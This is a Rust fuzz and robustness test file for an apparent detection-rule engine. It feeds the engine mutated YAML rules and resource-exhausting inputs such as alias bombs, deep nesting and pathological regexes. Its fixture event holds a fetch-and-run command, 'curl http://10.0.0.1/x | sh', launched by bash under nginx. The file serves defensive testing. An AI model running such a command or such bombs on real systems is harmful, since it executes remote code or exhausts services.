//! Rule files from anybody: whatever the bytes, an answer comes and nothing breaks.

use std::sync::Arc;

use picket_event::{Ancestor, Event, Kind, Process, ProcessUid, Source as Seen, UnixNanos};
use picket_rules::{RuleSet, Scratch, Source, check};

/// Inputs of one run; set `PICKET_MUTATIONS` for more.
const INPUTS: u32 = 24_000;

const SEEDS: [&str; 5] = [
    include_str!("data/plain.yml"),
    include_str!("data/modifiers.yml"),
    include_str!("data/audit.yml"),
    include_str!("data/ancestor.yml"),
    include_str!("data/several.yml"),
];

#[test]
fn mutated_rules_are_taken_or_refused_and_never_panic() {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let event = event();
    let mut scratch = Scratch::default();
    let (mut hits, mut taken, mut several, mut refused) = (Vec::new(), 0, 0, 0);
    for _ in 0..inputs() {
        let text = mutated(&mut random);
        let mut loaded = RuleSet::compile(&[Source {
            name: "mutated".into(),
            text,
        }]);
        taken += loaded.rules.rules().len();
        several += loaded.correlations.len();
        refused += loaded.refused.len();
        for refusal in &loaded.refused {
            assert_eq!(refusal.to_string().lines().count(), 1, "{refusal:?}");
        }
        for _ in 0..3 {
            loaded.rules.evaluate(&event, &mut scratch, &mut hits);
            loaded.correlations.step(&event, &hits);
        }
        let mut anew = loaded.correlations.snapshot();
        assert!(loaded.correlations.restore(&anew));
        anew.truncate(random.below(anew.len()));
        assert!(!loaded.correlations.restore(&anew));
    }
    eprintln!(
        "{} mutated inputs: {taken} rules taken, {several} over several events, {refused} refused",
        inputs()
    );
    assert!(
        taken > 100 && several > 100 && refused > 100,
        "{taken} and {several} taken, {refused} refused"
    );
}

#[test]
fn small_texts_that_ask_for_much_are_refused_quickly() {
    let bombs = [
        format!("a: &a [x]\nb: {}", "*a ".repeat(10)),
        "[".repeat(100_000),
        "{a: ".repeat(100_000),
        format!("detection:\n  condition: {}x", "(".repeat(100_000)),
        rule(&format!("CommandLine|re: '{}'", "(a{900}){900}")),
        rule(&format!("CommandLine|re: '{}'", "(".repeat(50_000))),
        format!("{}\n", "- ".repeat(100_000)),
        (0..40_000).fold(String::new(), |text, key| text + &format!("k{key}: 1\n")),
        "\u{feff}---\n".repeat(20_000),
        "x".repeat(10_000_000),
    ];
    for text in bombs {
        let checked = check(&Source {
            name: "bomb".into(),
            text,
        });
        assert!(checked.iter().all(|one| !one.ok), "{checked:?}");
    }
}

#[test]
fn a_condition_that_names_a_large_search_many_times_is_bounded() {
    let values: Vec<String> = (0..4_000)
        .map(|value| format!("      - '{value}'"))
        .collect();
    let values = values.join(
        "
",
    );
    let condition = vec!["selection"; 300].join(" or not ");
    let text = format!(
        "title: x\nlogsource: {{product: linux, category: process_creation}}\ndetection:\n  \
         selection:\n    CommandLine|contains|all:\n{values}\n  condition: {condition}\n"
    );
    let checked = check(&Source {
        name: "wide".into(),
        text,
    });
    assert!(
        checked[0]
            .reason
            .as_deref()
            .is_some_and(|reason| reason.contains("tests"))
    );
}

fn rule(search: &str) -> String {
    format!(
        "title: x\nlogsource: {{product: linux, category: process_creation}}\n\
         detection:\n  selection:\n    {search}\n  condition: selection\n"
    )
}

fn inputs() -> u32 {
    std::env::var("PICKET_MUTATIONS")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(INPUTS)
}

fn mutated(random: &mut Random) -> String {
    let mut bytes = SEEDS[random.below(SEEDS.len())].as_bytes().to_vec();
    for _ in 0..=random.below(4) {
        mutate(&mut bytes, random);
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Flips, cuts, repeats, moves, or puts in what YAML and rules are made of.
fn mutate(bytes: &mut Vec<u8>, random: &mut Random) {
    const WORDS: [&str; 24] = [
        ":",
        "- ",
        "|",
        "\n",
        "  ",
        "'",
        "\"",
        "[",
        "]",
        "{",
        "}",
        "&a",
        "*a",
        "!!int",
        "#",
        "? ",
        "|re: '('",
        "|all",
        "|cidr: 1",
        "null",
        "1 of them",
        "not ",
        "\u{0}",
        "\u{85}",
    ];
    let at = random.below(bytes.len() + 1);
    let end = (at + random.below(24)).min(bytes.len());
    match random.below(7) {
        0 if at < bytes.len() => bytes[at] = u8::try_from(random.below(256)).unwrap_or(0),
        1 => drop(bytes.drain(at..end)),
        2 => {
            let part = bytes[at..end].to_vec();
            for _ in 0..random.below(40) {
                bytes.splice(at..at, part.iter().copied());
            }
        }
        3 => bytes.truncate(at),
        4 => {
            let part: Vec<u8> = bytes.drain(at..end).collect();
            let to = random.below(bytes.len() + 1);
            bytes.splice(to..to, part);
        }
        _ => {
            let word = WORDS[random.below(WORDS.len())];
            bytes.splice(at..at, word.bytes());
        }
    }
}

fn event() -> Event {
    let uid = ProcessUid::new([1; 16]);
    let mut process = Process::new(uid, 10);
    process.exe = "/usr/bin/bash".into();
    process.argv = ["bash", "-c", "curl http://10.0.0.1/x | sh"]
        .map(Into::into)
        .to_vec();
    process.ancestry = Arc::new([Ancestor {
        uid,
        pid: 9,
        exe: "/usr/sbin/nginx".into(),
    }]);
    Event::new(Kind::Exec, UnixNanos(0), Seen::Replay).by(process)
}

/// xorshift64*: the same inputs in every run.
struct Random(u64);

impl Random {
    fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        let number = self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33;
        usize::try_from(number).unwrap_or(0) % bound.max(1)
    }
}
